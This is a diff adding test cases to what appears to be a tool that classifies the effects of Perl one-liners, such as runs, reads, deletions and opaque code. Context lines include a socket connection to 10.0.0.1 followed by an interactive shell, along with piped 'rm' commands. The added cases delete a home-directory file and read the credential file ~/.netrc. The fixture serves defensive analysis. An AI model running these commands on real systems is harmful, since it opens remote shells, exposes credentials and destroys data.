@@ -31,6 +31,9 @@ connect(S, sockaddr_in(1, inet_aton("10.0.0.1"))); system("sh -i") => run perl [
 open(P, "|sh"); print P "rm x" => run perl [inline] · run sh <unknown:code> OPAQUE
 open(P, "ls|"); print <P> => run perl [inline] · run ls
 open(P, "|-", "sort"); print P "a" => run perl [inline] · run sort
+unlink("$ENV{HOME}/x") => run perl [inline] · write ~/x [delete]
+open(F, "<$ENV{HOME}/.netrc") => run perl [inline] · read ~/.netrc
+system("rm $x{a}/b $y->[0]") => run perl [inline] OPAQUE · run rm □/b □ · write □/b [delete] · write □ [delete]
 """,
 )
 
